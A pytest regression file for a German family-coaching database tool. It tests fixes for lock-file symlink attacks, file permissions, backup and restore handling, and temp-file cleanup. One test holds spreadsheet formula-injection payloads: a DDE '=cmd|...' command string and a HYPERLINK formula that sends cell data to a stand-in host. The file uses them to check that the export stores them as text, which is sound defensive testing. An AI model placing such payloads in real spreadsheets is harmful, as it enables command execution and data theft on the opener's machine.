"""Faults an adversarial test found (issue 13), one regression test each, named after it.

Each test here failed on the code before the mend; docs/reliability.md lists them with results.
"""

from __future__ import annotations

import json
import logging
import os
import shutil
import sqlite3
import subprocess
import sys
import time
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from tests.support import REPO, media, run_cli
from tests.support.db import dump
from tests.support.excel import but, write_xlsx
from userjourney.core import values
from userjourney.core.demo.schmidt_mueller import store_demo
from userjourney.core.editing.edits import add_child, create_family, find_family, update_family
from userjourney.core.history.audit import family_history
from userjourney.core.storage.backups import (
    BEFORE_IMPORT,
    BEFORE_RESTORE,
    DAMAGED,
    backup_dir_for,
    kind_of,
    list_backups,
    make_backup,
    prune,
)
from userjourney.core.storage.database import open_database
from userjourney.core.storage.locking import DatabaseLock, LockFileRefused, lock_path_for
from userjourney.core.storage.writing import open_for_writing


def _demo(path):
    result = run_cli("demo", "--db", str(path))
    assert result.returncode == 0, result.stderr
    return path.read_bytes()


# 1 — the writer's lock followed symbolic links and truncated what they pointed at


def test_fault_1_a_lock_symlink_to_the_database_is_refused_and_the_database_stays_whole(tmp_path):
    path = tmp_path / "x.sqlite"
    before = _demo(path)
    lock_path_for(path).unlink(missing_ok=True)
    lock_path_for(path).symlink_to(path)
    with pytest.raises(LockFileRefused, match="keine gewöhnliche Sperrdatei"):
        DatabaseLock(path).try_acquire()
    result = run_cli("demo", "--anna", "--db", str(path), "--wait", "0")
    assert result.returncode != 0 and "keine gewöhnliche Sperrdatei" in result.stderr
    assert "Traceback" not in result.stderr
    assert path.read_bytes() == before


def test_fault_1_a_lock_symlink_to_another_file_leaves_that_file_alone(tmp_path):
    path = tmp_path / "x.sqlite"
    _demo(path)
    precious = tmp_path / "brief.txt"
    precious.write_text("Sehr geehrte Damen und Herren", encoding="utf-8")
    lock_path_for(path).unlink(missing_ok=True)
    lock_path_for(path).symlink_to(precious)
    with pytest.raises(LockFileRefused):
        DatabaseLock(path).try_acquire()
    assert precious.read_text(encoding="utf-8") == "Sehr geehrte Damen und Herren"


def test_fault_1_a_lock_that_is_a_hard_link_or_a_folder_is_refused(tmp_path):
    path = tmp_path / "x.sqlite"
    _demo(path)
    lock_path_for(path).unlink(missing_ok=True)
    os.link(path, lock_path_for(path))
    with pytest.raises(LockFileRefused):
        DatabaseLock(path).try_acquire()
    lock_path_for(path).unlink()
    lock_path_for(path).mkdir()
    with pytest.raises(LockFileRefused):
        DatabaseLock(path).try_acquire()


# 2 — a second name of the same file (a hard link) had a lock of its own


def test_fault_2_every_name_of_one_database_shares_one_lock(tmp_path):
    path = tmp_path / "x.sqlite"
    _demo(path)
    alias = tmp_path / "auch.sqlite"
    os.link(path, alias)
    first = DatabaseLock(path)
    assert first.try_acquire()
    try:
        second = DatabaseLock(alias)
        assert not second.try_acquire()
        assert second.holder()["pid"] == os.getpid()
        result = run_cli("demo", "--anna", "--db", str(alias), "--wait", "0")
        assert result.returncode == 4, result.stderr
        assert "wird gerade von" in result.stderr
    finally:
        first.release()
    second = DatabaseLock(alias)
    assert second.try_acquire()
    second.release()


# 3 — an unwritable backups/ stopped the window, and import and restore ended with exit 1


def _backups_blocked(path):
    """``backups`` beside the database is a file: no copy can go there (works as root too)."""
    shutil.rmtree(backup_dir_for(path), ignore_errors=True)
    backup_dir_for(path).write_text("kein Ordner", encoding="utf-8")


def test_fault_3_a_daily_backup_that_cannot_be_written_is_a_warning_and_the_database_opens(tmp_path):
    path = tmp_path / "x.sqlite"
    _demo(path)
    _backups_blocked(path)
    with open_for_writing(path, program="test", make_daily_backup=True) as writer:
        assert writer.daily_backup is None
        assert "Die Sicherung von" in writer.backup_problem and "fehlgeschlagen" in writer.backup_problem
        assert str(backup_dir_for(path)) in writer.backup_problem  # says where
        with writer.database.transaction() as session:
            create_family(session, "NEU-1")  # the coach can work


def test_fault_3_import_and_restore_refuse_with_exit_4_when_their_backup_fails(tmp_path):
    path = tmp_path / "x.sqlite"
    _demo(path)
    saved = tmp_path / "kopie.sqlite"
    assert run_cli("backup", str(saved), "--db", str(path)).returncode == 0
    with open_database(path, actor="Test") as database, database.transaction() as session:
        create_family(session, "NACH-DER-KOPIE")
    workbook = write_xlsx(tmp_path / "neu.xlsx", [but(Familie="IMPORT-1", Kind="Kim")], [])
    _backups_blocked(path)
    before = dump(path)
    for command in (("import", str(workbook)), ("restore", str(saved))):
        result = run_cli(*command, "--db", str(path))
        assert result.returncode == 4, result.stderr
        assert str(backup_dir_for(path)) in result.stderr and "Traceback" not in result.stderr
        assert len(result.stderr.strip().splitlines()) == 1
        assert dump(path) == before


def test_fault_6_pruning_keeps_the_newest_of_every_kind_and_young_damaged_copies(tmp_path):
    path = tmp_path / "x.sqlite"
    _demo(path)
    folder = backup_dir_for(path)
    start = datetime(2026, 11, 1, 9, 0)
    made = {}
    for kind, count, first in ((DAMAGED, 3, start), (BEFORE_RESTORE, 1, start), ("tag", 2, start),
                               (BEFORE_IMPORT, 12, start + timedelta(days=10))):
        for n in range(count):
            target = make_backup(path, kind, now=first + timedelta(hours=n))
            made.setdefault(kind, []).append(target)
    (folder / (made[DAMAGED][0].name + "-wal")).write_bytes(b"wal")
    orphan = folder / "x-20200101-000000-tag.sqlite-wal"
    orphan.write_bytes(b"left behind")
    removed = prune(path, keep=2, now=start + timedelta(days=20))
    names = {p.name for p in folder.iterdir()}
    assert all(p.name in names for p in made[BEFORE_RESTORE] + made["tag"])  # ten imports never push these out
    assert all(p.name in names for p in made[DAMAGED])  # younger than 30 days: all kept
    assert [p.name in names for p in made[BEFORE_IMPORT]] == [False] * 10 + [True] * 2
    assert orphan.name not in names and orphan in removed
    # 40 days on, the damaged copies beyond the newest two go, with their -wal
    prune(path, keep=2, now=start + timedelta(days=40))
    names = {p.name for p in folder.iterdir()}
    assert made[DAMAGED][0].name not in names and made[DAMAGED][0].name + "-wal" not in names
    assert made[DAMAGED][2].name in names
    prune(path, keep=1, now=start + timedelta(days=400))
    assert {kind_of(b.reason) for b in list_backups(path, count_families=False)} == {
        DAMAGED, BEFORE_RESTORE, "tag", BEFORE_IMPORT}  # never the newest of a kind


# 4 — the database, its backups, the log and the exports were readable by every local user


def _mode(path) -> int:
    return path.stat().st_mode & 0o777


@pytest.fixture
def usual_umask():
    """The usual default umask (files 0644): the program must not rely on a careful one."""
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.mark.slow  # several processes or file systems: make test, not make test-fast
def test_fault_4_everything_the_program_writes_is_for_the_user_only(tmp_path, isolated_home, usual_umask):
    default = run_cli("demo")  # the default database in the data folder
    assert default.returncode == 0, default.stderr
    data = isolated_home / "data" / "userjourney"
    assert _mode(data) == 0o700
    assert _mode(data / "userjourney.sqlite") == 0o600
    chosen = tmp_path / "ordner"
    chosen.mkdir()
    os.chmod(chosen, 0o755)
    path = chosen / "x.sqlite"
    _demo(path)
    saved = tmp_path / "kopie.sqlite"
    assert run_cli("backup", str(saved), "--db", str(path)).returncode == 0
    assert run_cli("export", str(tmp_path / "export.xlsx"), "--db", str(path)).returncode == 0
    assert run_cli("template", str(tmp_path / "vorlage.xlsx")).returncode == 0
    assert run_cli("restore", str(saved), "--db", str(path)).returncode == 0
    assert run_cli("summary", "--from", "kaputt", "--db", str(path)).returncode == 2
    files = [path, saved, tmp_path / "export.xlsx", tmp_path / "vorlage.xlsx", lock_path_for(path),
             *backup_dir_for(path).iterdir()]
    assert {f.name: _mode(f) for f in files} == {f.name: 0o600 for f in files}
    assert _mode(backup_dir_for(path)) == 0o700
    assert _mode(data / "locks") == 0o700
    assert all(_mode(f) == 0o600 for f in (data / "locks").iterdir())
    assert _mode(chosen) == 0o755  # the folder the user chose stays as it was


def test_fault_4_a_database_an_older_version_left_readable_is_made_private_on_opening(tmp_path, usual_umask):
    path = tmp_path / "x.sqlite"
    _demo(path)
    os.chmod(path, 0o644)
    path.with_name("x.sqlite-wal").write_bytes(b"")
    os.chmod(path.with_name("x.sqlite-wal"), 0o644)
    assert run_cli("demo", "--anna", "--db", str(path)).returncode == 0
    assert _mode(path) == 0o600
    assert all(_mode(p) == 0o600 for p in tmp_path.glob("x.sqlite*"))


def test_fault_4_settings_and_log_are_private(isolated_home, usual_umask):
    from userjourney.core.log import log_path, setup_logging
    from userjourney.core.settings import Settings, save_settings, settings_path

    save_settings(Settings(coach_name="Frau Test"))
    assert _mode(settings_path()) == 0o600 and _mode(settings_path().parent) == 0o700
    setup_logging()
    logging.getLogger("userjourney.test").warning("x")
    assert _mode(log_path()) == 0o600 and _mode(log_path().parent) == 0o700


# 5 — the history export wrote texts beginning with "=" as live formulas, and failed on \x0b

PAYLOADS = ("=cmd|'/C calc'!A0", '=HYPERLINK("http://example.org/?q="&A1,"klick")', "@SUM(1+1)*cmd|' /C calc'!A0")


def test_fault_5_the_history_export_writes_formulas_as_text_and_survives_control_characters(tmp_path, usual_umask):
    from openpyxl import load_workbook

    from userjourney.core.excel.history_export import export_history
    from userjourney.core.history.audit import AuditRow

    at = datetime(2026, 12, 1, 10, 0, tzinfo=UTC)
    rows = [AuditRow(at, "Frau Test", payload, "geändert", "Name", "alt", payload, uuid.uuid4()) for payload in PAYLOADS]
    rows.append(AuditRow(at, "Frau Test", "Kim", "geändert", "Einzelheiten", "Zeile 1\x0bZeile 2", "a\x00b\x1fc",
                         uuid.uuid4()))
    written = export_history(rows, tmp_path / "verlauf.xlsx", "=FAMILIE")
    sheet = load_workbook(written).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert [sheet.cell(row=2 + i, column=3).value for i in range(3)] == list(PAYLOADS)
    assert sheet.cell(row=5, column=6).value == "Zeile 1\nZeile 2" and sheet.cell(row=5, column=7).value == "abc"
    assert _mode(written) == 0o600


def test_fault_5_the_editing_core_turns_a_pasted_word_line_break_into_a_line_break(db):
    with db.transaction() as session:
        family = create_family(session, "F-1")
        child = add_child(session, family, "Kim\x0bLee")
        code = family.code
    assert child.name == "Kim Lee"  # a name is one line
    assert values.clean_text("eins\x0bzwei\x0cdrei\r\nvier\x00") == "eins\nzwei\ndrei\nvier"
    assert code == "F-1"


# 6 — a restore silently replaced the change history


def test_fault_6_a_restore_is_recorded_in_the_history_and_names_the_kept_aside_state(tmp_path):
    path = tmp_path / "x.sqlite"
    _demo(path)
    saved = tmp_path / "kopie.sqlite"
    assert run_cli("backup", str(saved), "--db", str(path)).returncode == 0
    with open_database(path, actor="Frau Später") as database, database.transaction() as session:
        family = find_family(session, "Schmidt")
        update_family(session, family, "location", "Spätort")
        family_id = family.id
    rows_in_backup = _changes(saved)
    result = run_cli("restore", str(saved), "--db", str(path))
    assert result.returncode == 0, result.stderr
    after = _changes(path)
    assert after[:-1] == rows_in_backup  # the backup's history, then one row
    record_type, action, family, old, new = after[-1][1:6]
    assert (record_type, action, family) == ("database", "restore", None)
    assert json.loads(new) == {"file": str(saved)}
    aside = Path(json.loads(old)["file"])
    assert aside.parent == backup_dir_for(path) and aside.name.endswith("-vor-wiederherstellung.sqlite")
    assert "Spätort" in {r[0] for r in sqlite3.connect(aside).execute("SELECT location FROM family")}
    assert str(aside) in result.stdout
    # the family's readable history shows it
    with open_database(path) as database, database.session() as session:
        history = family_history(session, family_id)
    assert history[0].subject == "Datenbank" and history[0].action == "wiederhergestellt"
    assert saved.name in history[0].new and aside.name in history[0].old


def _changes(path) -> list[tuple]:
    with sqlite3.connect(path) as conn:
        rows = conn.execute(
            "SELECT id, record_type, action, family_id, old_value, new_value FROM change ORDER BY id").fetchall()
    conn.close()
    return rows


def test_fault_6_a_restore_cut_off_before_the_file_is_replaced_leaves_the_database_as_it_was(tmp_path, monkeypatch):
    from userjourney.core.history import restoring

    path = tmp_path / "x.sqlite"
    _demo(path)
    saved = make_backup(path, "tag")
    with open_database(path, actor="Test") as database, database.transaction() as session:
        create_family(session, "NACHHER")
    before = dump(path)

    def cut(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(restoring, "restore_backup", cut)
    with pytest.raises(KeyboardInterrupt):
        restoring.restore_and_record(path, saved)
    assert dump(path) == before
    assert not (backup_dir_for(path) / restoring.STAGING_FOLDER).exists()


# 7 — restore could not repair a damaged database on the command line; read-only media could
#     not even be read; a full disk was called "beschädigt"


@pytest.mark.slow  # several processes or file systems: make test, not make test-fast
def test_fault_7_restore_on_the_command_line_repairs_a_damaged_database(tmp_path):
    path = tmp_path / "x.sqlite"
    _demo(path)
    saved = tmp_path / "kopie.sqlite"
    assert run_cli("backup", str(saved), "--db", str(path)).returncode == 0
    damaged = b"SQLite format 3\x00" + b"\x00" * 84 + "zerstört".encode() * 600
    path.write_bytes(damaged)
    assert run_cli("summary", "--db", str(path)).returncode == 4  # damaged indeed
    result = run_cli("restore", str(saved), "--db", str(path))
    assert result.returncode == 0, result.stderr
    kept = next(backup_dir_for(path).glob("*-beschaedigt.sqlite"))
    assert kept.read_bytes() == damaged and str(kept) in result.stdout
    summary = run_cli("summary", "--json", "--db", str(path))
    assert summary.returncode == 0 and json.loads(summary.stdout)["families"] == 2


needs_namespaces = pytest.mark.skipif(not media.namespaces_work(), reason="no unprivileged mount namespaces here")


@pytest.mark.slow  # several processes or file systems: make test, not make test-fast
@needs_namespaces
def test_fault_7_summary_export_and_the_window_read_a_database_on_a_read_only_medium(tmp_path):
    folder = tmp_path / "stick"
    folder.mkdir()
    path = folder / "x.sqlite"
    _demo(path)
    before = sorted(p.name for p in folder.iterdir())
    ro = media.read_only(folder)
    summary = run_cli("summary", "--json", "--db", str(path), prefix=ro)
    assert summary.returncode == 0, summary.stderr
    assert json.loads(summary.stdout)["families"] == 2
    assert "schreibgeschützten Datenträger" in summary.stderr
    export = run_cli("export", str(tmp_path / "e.xlsx"), "--db", str(path), prefix=ro)
    assert export.returncode == 0, export.stderr
    assert run_cli("backup", str(tmp_path / "k.sqlite"), "--db", str(path), prefix=ro).returncode == 0
    writing = run_cli("demo", "--anna", "--db", str(path), prefix=ro)
    assert writing.returncode == 4 and "schreibgeschützt" in writing.stderr
    shot = tmp_path / "fenster.png"
    window = run_cli("--db", str(path), env={"USERJOURNEY_SCREENSHOT": str(shot)}, prefix=ro)
    assert window.returncode == 0, window.stderr
    assert "[nur lesen]" in json.loads(window.stdout.strip().splitlines()[-1])["title"]
    assert sorted(p.name for p in folder.iterdir()) == before


@pytest.mark.slow  # several processes or file systems: make test, not make test-fast
@needs_namespaces
def test_fault_7_a_full_disk_is_called_a_full_disk_and_the_database_can_still_be_read(tmp_path):
    source = tmp_path / "x.sqlite"
    _demo(source)
    folder = tmp_path / "voll"
    folder.mkdir()
    path = folder / "x.sqlite"
    full = media.full_disk(folder, [source])
    writing = run_cli("demo", "--anna", "--db", str(path), prefix=full)
    assert writing.returncode == 4
    assert "kein Platz mehr" in writing.stderr and "beschädigt" not in writing.stderr.replace("nicht beschädigt", "")
    summary = run_cli("summary", "--json", "--db", str(path), prefix=full)
    assert summary.returncode == 0, summary.stderr
    assert json.loads(summary.stdout)["families"] == 2 and "kein Platz mehr" in summary.stderr
    shot = tmp_path / "fenster.png"
    window = run_cli("--db", str(path), env={"USERJOURNEY_SCREENSHOT": str(shot)}, prefix=full)
    assert window.returncode == 0, window.stderr  # opens read-only instead of offering a restore
    assert "[nur lesen]" in json.loads(window.stdout.strip().splitlines()[-1])["title"]


# 8 — a killed export left its raw data in the system temp folder


@pytest.mark.slow  # several processes or file systems: make test, not make test-fast
def test_fault_8_a_killed_export_leaves_nothing_in_the_system_temp_folder_and_the_next_start_cleans_up(
        tmp_path, isolated_home):
    path = tmp_path / "x.sqlite"
    big = write_xlsx(tmp_path / "gross.xlsx",
                     [but(Familie=f"F-{n:05}", Kind=f"Kind {n}") for n in range(6000)], [])
    assert run_cli("import", str(big), "--db", str(path)).returncode == 0
    system_temp = tmp_path / "systemtemp"
    system_temp.mkdir()
    env = {**os.environ, "TMPDIR": str(system_temp), "PYTHONPATH": str(REPO),
           "QT_QPA_PLATFORM": "offscreen"}
    scratch = isolated_home / "data" / "userjourney" / "tmp"
    proc = subprocess.Popen([sys.executable, "-m", "userjourney", "export", str(tmp_path / "e.xlsx"), "--db", str(path)],
                            env=env, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while not any(scratch.glob("*/openpyxl.*")) and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.01)
    proc.kill()
    proc.wait()
    leftovers = list(scratch.glob("*/openpyxl.*"))
    assert leftovers, "the export ended before it could be killed: make the database bigger"
    assert _mode(leftovers[0]) == 0o600 and _mode(leftovers[0].parent) == 0o700
    assert not list(system_temp.iterdir())
    assert not (tmp_path / "e.xlsx").exists()
    assert (scratch / str(proc.pid)).is_dir()
    assert run_cli("summary", "--db", str(path)).returncode == 0  # the next start
    assert not (scratch / str(proc.pid)).exists()


def test_fault_8_an_export_that_fails_removes_its_scratch_files(tmp_path, db, isolated_home):
    from userjourney.core.excel import export_workbook

    with db.transaction() as session:
        store_demo(session)

    def cancel(done, total):
        if done:
            raise KeyboardInterrupt

    with db.session() as session, pytest.raises(KeyboardInterrupt):
        export_workbook(session, tmp_path / "e.xlsx", progress=cancel)
    assert not list((isolated_home / "data" / "userjourney" / "tmp").glob("*/*"))
    assert not (tmp_path / "e.xlsx").exists()
